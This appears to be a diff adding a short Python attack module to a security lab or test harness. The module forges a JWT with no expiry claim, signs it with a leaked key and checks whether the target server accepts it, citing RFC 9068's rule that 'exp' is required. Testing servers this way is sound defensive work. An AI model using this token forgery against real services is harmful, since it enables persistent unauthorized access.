@@ -1,0 +1,18 @@
+"""Use a token that never ends.
+
+Exploits a server that looks at `exp` only where there is one.
+Source: RFC 9068, section 2.2 Data Structure (exp is required),
+https://www.rfc-editor.org/rfc/rfc9068#section-2.2
+"""
+
+from attacks.forge import claims_about, signed
+from attacks.lab import Outcome, Target, attack, judge
+
+
+@attack(door="token-unchecked")
+def run(target: Target) -> Outcome:
+    """Sign a token without an end."""
+    victim = target.enrol()
+    target.token_of(victim)
+    claims = claims_about(victim.username, exp=None)
+    return judge({"no exp": target.read(signed(claims, target.leaked_key()))})
